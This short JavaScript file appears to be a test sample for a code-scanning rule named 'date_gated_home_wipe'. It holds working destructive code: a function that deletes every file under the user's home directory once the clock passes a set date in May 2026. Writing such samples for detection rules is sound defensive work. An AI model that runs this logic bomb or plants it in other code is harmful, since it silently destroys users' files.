const fs = require('fs')
const os = require('os')
const path = require('path')

function sweep (dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true, recursive: true })) {
    if (e.isFile()) fs.rmSync(path.join(e.parentPath || dir, e.name), { force: true })
  }
}

// ruleid: date_gated_home_wipe
if (Date.now() > new Date('2026-05-09T00:00:00Z').getTime()) sweep(os.homedir())
